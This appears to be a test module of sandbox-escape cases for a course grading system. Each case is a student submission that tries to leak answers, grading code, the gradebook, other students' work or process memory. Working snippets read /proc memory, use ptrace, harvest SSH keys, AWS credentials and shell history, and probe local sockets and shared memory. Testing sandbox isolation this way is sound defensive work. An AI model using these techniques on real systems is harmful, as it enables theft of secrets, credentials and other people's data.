"""Reading what is not for learners: answers, judging, secrets of the class, other students, the machine around."""

from course_grader.attacks.sheet import Link, Sheet, attack

SOCKETS = """
import socket


def talk(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as line:
        line.settimeout(0.5)
        line.connect(address)
        line.send(b"GET / HTTP/1.0\\r\\n\\r\\n")
        loot(line.recv(4096))
"""


TRYING = """
def each(*ways):
    for way in ways:
        try:
            way()
        except RuntimeError:
            raise
        except Exception:
            pass
"""


@attack("leak")
def worked_answers(sheet: Sheet) -> None:
    """The worked answer, by the library's own ways to it."""
    sheet.answer("""
        from course_grader import exercises
        from course_app import notebook


        def attempt(*args):
            loot(notebook.worked_source(exercises.card("train-days-7b")), whole=True)""")


@attack("leak")
def judging_bytecode(sheet: Sheet) -> None:
    """The compiled judging, in `__pycache__`."""
    sheet.answer("""
        import pathlib


        def attempt(*args):
            for path in sorted(pathlib.Path(AT["course"]).glob("course_*/**/*.pyc")):
                if "judg" in str(path) or path.name.startswith("panel."):  # not the figures' panels
                    loot(path.read_bytes()[:2000], whole=True)""")


@attack("leak")
def judging_by_import(sheet: Sheet) -> None:
    """The judging imported past the guard: by other finders, loaders and names."""
    sheet.answer("""
        import importlib, importlib.machinery, importlib.util, pathlib, sys


        def attempt(*args):
            sys.meta_path[:] = [each for each in sys.meta_path if type(each).__name__ != "Refuse"]
            for name in ("course_grader.judging", "course_chapters.ch01.exercises.judges.state_13b",
                    "course_grader.judge.decision"):
                try:
                    loot(vars(importlib.import_module(name)), whole=True)
                except ImportError:
                    pass
            path = str(pathlib.Path(AT["course"], "course_chapters/ch01/exercises/judges/state_13b.py"))
            spec = importlib.util.spec_from_file_location("innocent", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            loot(vars(module), whole=True)""")


@attack("leak")
def class_folder(sheet: Sheet) -> None:
    """Everything in the class folder: secret, roster, gradebook, reports, variants."""
    sheet.answer("""
        import os


        def attempt(*args):
            for folder, _, names in os.walk(AT["root"]):
                for name in names:
                    try:
                        found = seen(os.path.join(folder, name))
                    except OSError:
                        continue
                    loot(found)""")


@attack("leak")
def gradebook_by_sql(sheet: Sheet) -> None:
    """The gradebook, asked as a database."""
    sheet.answer("""
        import sqlite3


        def attempt(*args):
            book = sqlite3.connect(f"file:{AT['class']}/gradebook.db?mode=ro", uri=True)
            loot(book.execute("select * from grade").fetchall())""")


@attack("leak")
def memory_of_the_judge(sheet: Sheet) -> None:
    """The judge's memory, through /proc."""
    sheet.answer("""
        def attempt(*args):
            pid = AT["judge"]
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    place, kind, *_ = line.split()
                    start, end = (int(part, 16) for part in place.split("-"))
                    if kind.startswith("rw") and end - start < 50_000_000:
                        memory.seek(start)
                        try:
                            loot(memory.read(end - start))
                        except OSError:
                            pass""")


@attack("leak")
def memory_by_system_calls(sheet: Sheet) -> None:
    """Memory of the judge and of another process, by process_vm_readv and ptrace."""
    sheet.answer("""
        import ctypes


        def attempt(*args):
            libc = ctypes.CDLL(None, use_errno=True)
            for pid in (AT["judge"], AT["victim"]):
                if libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE stops nothing
                    libc.ptrace(17, pid, 0, 0)
                    loot(f"a tracer of process {pid}", whole=True)

            class Piece(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

            here = ctypes.create_string_buffer(64)
            mine, theirs = Piece(ctypes.addressof(here), 64), Piece(id(AT), 64)
            if libc.process_vm_readv(AT["judge"], ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
                loot("the judge's memory", whole=True)""")


@attack("leak")
def memory_of_its_own_process(sheet: Sheet) -> None:
    """What the warm process held before the fork: secrets, the judging's modules, earlier submissions."""
    sheet.answer("""
        import gc, sys


        def attempt(*args):
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                for line in maps:
                    place, kind, *_ = line.split()
                    start, end = (int(part, 16) for part in place.split("-"))
                    if kind.startswith("rw") and end - start < 30_000_000:
                        memory.seek(start)
                        try:
                            loot(memory.read(end - start))
                        except OSError:
                            pass
            held = [name for name in sys.modules if "judg" in name] + [
                type(each).__name__ for each in gc.get_objects() if type(each).__name__ in ("Judging", "DrillKey",
                    "ClassFolder", "Exercise")]
            loot(held or "", whole=True)""")


@attack("leak")
def inherited_descriptors(sheet: Sheet) -> None:
    """Every open descriptor: files, sockets and folders that a fork handed down."""
    sheet.answer("""
        import os, socket


        def attempt(*args):
            for fd in sorted({int(name) for name in os.listdir("/proc/self/fd")} | {AT["fd"]}):
                try:
                    where = os.readlink(f"/proc/self/fd/{fd}")
                    if where.startswith("/") and not where.startswith(("/dev", "/proc")):
                        os.lseek(fd, 0, 0)
                        loot(os.pread(fd, 100_000, 0))
                except OSError:
                    pass""")


@attack("leak")
def folders_of_other_processes(sheet: Sheet) -> None:
    """Files through /proc: root, cwd and descriptors of the judge, of the warm process and of process 1."""
    sheet.answer("""
        import os


        def attempt(*args):
            for pid in (1, os.getppid(), AT["judge"], AT["victim"], "self"):
                for way in (f"/proc/{pid}/root{AT['class']}/.secret", f"/proc/{pid}/fd/{AT['fd']}",
                    f"/proc/{pid}/root/{AT['root']}/open.txt",
                            f"/proc/{pid}/cwd/solutions/01_three_walls/01_three_walls.ipynb"):
                    try:
                        found = seen(way)
                    except OSError:
                        continue
                    loot(found, whole="solutions" in way)""")


@attack("leak")
def home_folder(sheet: Sheet) -> None:
    """Keys and passwords in the home folders, by variable, by account and by guess."""
    sheet.answer("""
        import os, pathlib


        def attempt(*args):
            homes = {os.environ.get("HOME", ""), AT["home"], "/root", *map(str, pathlib.Path("/home").glob("*"))}
            for home in sorted(homes - {os.getcwd(), ""}):
                for name in (".netrc", ".ssh/id_ed25519", ".bash_history", ".aws/credentials", ".gitconfig", ".bashrc",
                        ".profile"):
                    try:
                        found = seen(f"{home}/{name}")
                    except OSError:
                        continue
                    loot(found, whole=home == "/root")""")


@attack("leak", before=SOCKETS + TRYING)
def services_on_loopback(sheet: Sheet) -> None:
    """What listens on the host's loopback: a scheduler, a database, Jupyter."""
    sheet.answer("""
def attempt(*args):
    each(lambda: talk(socket.AF_INET, ("127.0.0.1", AT["tcp"])), lambda: talk(socket.AF_INET, ("0.0.0.0", AT["tcp"])),
         lambda: talk(socket.AF_INET, ("127.7.7.7", AT["tcp"])), lambda: talk(socket.AF_INET6, ("::1", AT["tcp6"])),
         lambda: talk(socket.AF_INET6, ("::ffff:127.0.0.1", AT["tcp"])))
    return 0.0
""")


@attack("leak", before=SOCKETS + TRYING)
def datagrams_and_names(sheet: Sheet) -> None:
    """Datagrams to the host, shaped like a question to a name server."""
    sheet.answer("""
def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(0.3)
        head = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
        line.sendto(head + b"\\x06secret\\x04exam\\x00\\x00\\x10\\x00\\x01", ("127.0.0.1", AT["udp"]))
        loot(line.recv(4096))


def attempt(*args):
    each(ask, lambda: talk(socket.AF_INET, ("127.0.0.1", AT["udp"]), socket.SOCK_DGRAM))
    return 0.0
""")


@attack("leak", before=SOCKETS + TRYING)
def sockets_without_a_network(sheet: Sheet) -> None:
    """Abstract sockets, and sockets in the file system."""
    sheet.answer("""
def attempt(*args):
    each(lambda: talk(socket.AF_UNIX, AT["abstract"]), lambda: talk(socket.AF_UNIX, AT["socket"]))
    return 0.0
""")


@attack("leak", before=TRYING)
def shared_memory_of_the_host(sheet: Sheet) -> None:
    """POSIX and System V shared memory of other processes."""
    sheet.answer("""
import ctypes
from multiprocessing import resource_tracker, shared_memory


def posix():
    loot(seen(f"/dev/shm/{AT['shm']}"))


def by_name():
    resource_tracker.register = resource_tracker.unregister = lambda *a: None
    loot(bytes(shared_memory.SharedMemory(AT["shm"]).buf[:100]))


def system_v():
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    found = libc.shmget(AT["shm_key"], 4096, 0)
    place = libc.shmat(found, None, 0)
    if found >= 0 and place not in (None, ctypes.c_void_p(-1).value):
        loot(ctypes.string_at(place, 60))


def attempt(*args):
    each(posix, by_name, system_v)
    return 0.0
""")


@attack("leak")
def history_of_the_shell(sheet: Sheet) -> None:
    """What IPython remembers: history, startup files and the folder that all submissions of a marker would share."""
    sheet.answer("""
        import os, pathlib


        def attempt(*args):
            shell = get_ipython()
            place = pathlib.Path(shell.ipython_dir)
            for path in place.rglob("*history*"):
                loot(path.read_bytes()[:500], whole=path.stat().st_size > 0)
            loot(list(shell.history_manager.get_tail(50,
                include_latest=False)) if shell.history_manager.enabled else "")""")


@attack("leak")
def link_beside_the_notebook(sheet: Sheet) -> None:
    """Links that came with the submission, to files and folders of the class."""
    sheet.files |= {
        "data.csv": Link(sheet.about["class"] + "/.secret"),
        "more": Link(sheet.about["class"]),
        "up": Link("../class/.secret"),
        "loop": Link("."),
        "data/deep": Link(sheet.about["class"]),
    }
    sheet.answer("""
        import os


        def attempt(*args):
            for folder, _, names in os.walk(".", followlinks=False):
                for name in (*names, "more/.secret", "data/deep/.secret"):
                    try:
                        found = seen(os.path.join(folder, name))
                    except OSError:
                        continue
                    loot(found)""")


@attack("leak")
def notebook_that_is_a_link(sheet: Sheet) -> None:
    """The notebook itself is a link to another student's."""
    sheet.link = sheet.about["class"] + "/submitted/other/01_three_walls/01_three_walls.ipynb"
    sheet.refused = "is a link"


@attack("leak", states=("crashed",))
def core_file(sheet: Sheet) -> None:
    """A crash that would leave a core file with the process's memory."""
    sheet.answer("""
        import ctypes, os, resource


        def attempt(*args):
            _, most = resource.getrlimit(resource.RLIMIT_CORE)
            try:
                resource.setrlimit(resource.RLIMIT_CORE, (most, most))
            except ValueError:
                pass
            os.chdir(".")
            ctypes.string_at(0)""")


@attack("leak")
def secrets_in_the_request(sheet: Sheet) -> None:
    """All that the judge sends with a case: looked through for expected values and the class's secret."""
    sheet.answer("""
        import sys


        def attempt(*args):
            frame = sys._getframe()
            while frame:
                request = frame.f_locals.get("request")
                if isinstance(request, dict):
                    loot(request)
                    extra = set(request) - {"do", "probe", "names", "hides", "args", "kwargs", "source", "grade_id",
                        "folder"}
                    loot(sorted(extra & {"secret", "want", "seed", "cases", "points"}) or "", whole=True)
                frame = frame.f_back
            return 0.0""")


@attack("leak")
def mail_by_error_message(sheet: Sheet) -> None:
    """The class folder's paths and users, by provoked error messages of the course's own tools."""
    sheet.answer("""
        def attempt(*args):
            from course_app.learner import work

            found = work.folders()
            for path in (found.root / "solutions", found.work):
                try:
                    names = sorted(each.name for each in path.iterdir())
                except OSError:
                    continue
                loot(names, whole=bool(names))""")
